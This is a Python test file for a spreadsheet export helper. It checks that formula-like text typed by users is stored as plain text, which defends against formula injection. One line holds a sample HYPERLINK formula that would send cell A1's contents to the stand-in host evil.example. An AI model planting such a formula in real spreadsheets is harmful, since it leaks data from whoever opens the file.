"""Spreadsheet formula injection (issue 11, item 3): user text is written as text."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from mashang.core.spreadsheet import append_row

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("write_only", [False, True])
def test_a_formula_typed_by_a_citizen_stays_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet() if write_only else wb.active
    append_row(ws, [ATTACK, "+1+1", "-2", "@SUM(A1)", 42, "bell\x07"])
    out = io.BytesIO()
    wb.save(out)
    assert "<f>" not in sheet_xml(out.getvalue())
    row = next(load_workbook(out).worksheets[-1].iter_rows(values_only=True))
    assert row[:5] == (ATTACK, "+1+1", "-2", "@SUM(A1)", 42)
    assert row[5] == "bell"  # a character XML cannot hold is dropped, the export still works
